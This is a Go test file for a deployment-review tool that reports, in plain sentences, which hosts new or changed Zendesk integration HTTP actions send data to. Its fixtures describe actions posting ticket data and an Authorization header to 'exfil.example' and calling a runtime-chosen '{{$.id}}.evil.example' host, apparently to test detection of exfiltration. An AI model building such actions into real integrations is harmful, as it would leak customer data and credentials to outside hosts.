package sentences_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/zisdeploy/zis-deploy/internal/diag"
	"github.com/zisdeploy/zis-deploy/internal/sentences"
	"github.com/zisdeploy/zis-deploy/internal/source"
)

const calls = `"f": {"type": "ZIS::Flow", "properties": {"name": "f", "definition": {"StartAt": "A", "States": {
  "A": {"Type": "Action", "ActionName": "zis:x:action:log", "Parameters": {"all.$": "$.input", "id.$": "$.input.ticket_event.ticket.id", "both": {"a.$": "$.x", "b": "{{$.y}}"}, "fixed": "z"}, "Next": "B"},
  "B": {"Type": "Succeed"}}}}}`

func action(name, definition string) string {
	return `"` + name + `": {"type": "ZIS::Action::Http", "properties": {"name": "` + name + `", "definition": ` + definition + `}}`
}

func document(t *testing.T, resources string) *source.Document {
	t.Helper()
	if resources == "" {
		return nil
	}
	doc, found := source.Parse(diag.NewFile("b.json", []byte(`{"name": "b", "resources": {`+resources+`}}`)))
	if doc == nil {
		t.Fatal(found)
	}
	return doc
}

func TestWhereNewAndChangedActionsSend(t *testing.T) {
	post := `{"method": "POST", "url": "https://exfil.example/in/{{$.id}}?k=1", "headers": [{"key": "X-A", "value": "{{$.fixed}}"}, {"key": "Authorization", "value": "x"}], "connectionName": "slack", "requestBody": {"all.$": "$.all", "deep": "{{$.both.a}}", "whole.$": "$.both"}}`
	get := `{"method": "get", "path": "/api/v2/tickets/{{$.id}}.json"}`
	for name, c := range map[string]struct {
		before, after string
		hosts         []sentences.Talk
		requests      []sentences.Request
	}{
		"new": {
			"", action("log", post) + "," + calls,
			[]sentences.Talk{{Host: "exfil.example", New: true}},
			[]sentences.Request{{
				Bundle: "b", Action: "log", Pointer: "/resources/log", New: true, What: "POST exfil.example/in/…", As: "slack", Headers: []string{"X-A", "Authorization"},
				Sends: []string{"$.input.ticket_event.ticket.id", "$.input", "$.x", "$.y"},
			}},
		},
		"the same": {action("log", post) + "," + calls, action("log", post) + "," + calls, []sentences.Talk{{Host: "exfil.example"}}, nil},
		"other host": {
			action("log", get) + "," + calls, action("log", `{"method": "GET", "url": "https://{{$.id}}.evil.example/x"}`),
			[]sentences.Talk{{Host: "a host chosen at run time, {{$.id}}.evil.example", New: true}},
			[]sentences.Request{{Bundle: "b", Action: "log", Pointer: "/resources/log", What: "GET a host chosen at run time, {{$.id}}.evil.example/x", Sends: []string{"$.id"}}},
		},
		"one more header": {
			action("log", get), action("log", `{"method": "get", "path": "/api/v2/tickets/{{$.id}}.json", "headers": [{"key": "X\u200b", "value": "v"}]}`),
			[]sentences.Talk{{Host: "Zendesk itself"}},
			[]sentences.Request{{Bundle: "b", Action: "log", Pointer: "/resources/log", What: "GET /api/v2/tickets/….json of Zendesk itself", Headers: []string{`X\u200b`}, Sends: []string{"$.id"}}},
		},
		"none": {"", calls, nil, nil},
		"odd": {"", action("log", `{"headers": {"X-O": "1"}, "url": 3}`) + "," + action("nothing", `[]`), []sentences.Talk{{Host: "Zendesk itself", New: true}}, []sentences.Request{
			{Bundle: "b", Action: "log", Pointer: "/resources/log", New: true, What: "Zendesk itself", Headers: []string{"X-O"}},
			{Bundle: "b", Action: "nothing", Pointer: "/resources/nothing", New: true, What: "Zendesk itself"},
		}},
	} {
		t.Run(name, func(t *testing.T) {
			told := sentences.Tell([]sentences.Pair{{Before: document(t, c.before), After: document(t, c.after)}}, nil)
			if diff := cmp.Diff(c.hosts, told.Hosts); diff != "" {
				t.Errorf("hosts (-want +got)\n%s", diff)
			}
			if diff := cmp.Diff(c.requests, told.Requests); diff != "" {
				t.Errorf("requests (-want +got)\n%s", diff)
			}
		})
	}
}

// Where only the account's side of a header may not be shown, ours is read: it
// is not said to be a secret.
func TestHeaderThatWasHidden(t *testing.T) {
	post := `{"method": "POST", "url": "https://a.example", "headers": [{"key": "X-A", "value": "%s"}]}`
	hidden := func(n *source.Node) source.Edit {
		e := n.Same()
		e.Secret = n.Name == "value"
		return e
	}
	plain := document(t, action("log", fmt.Sprintf(post, "plain")))
	before := document(t, action("log", fmt.Sprintf(post, "k-17"))).Edited(nil, hidden)
	for after, want := range map[*source.Document]string{
		plain: "the header X-A is now plain (before: \"(secret)\")",
		document(t, action("log", fmt.Sprintf(post, "k-18"))).Edited(nil, hidden): "the header X-A is another secret",
	} {
		var all []string
		for _, s := range sentences.Tell([]sentences.Pair{{Before: before, After: after}}, nil).All() {
			all = append(all, s.Text)
		}
		if told := strings.Join(all, "\n"); !strings.Contains(told, want) {
			t.Errorf("told is\n%s\nwant %s", told, want)
		}
	}
}
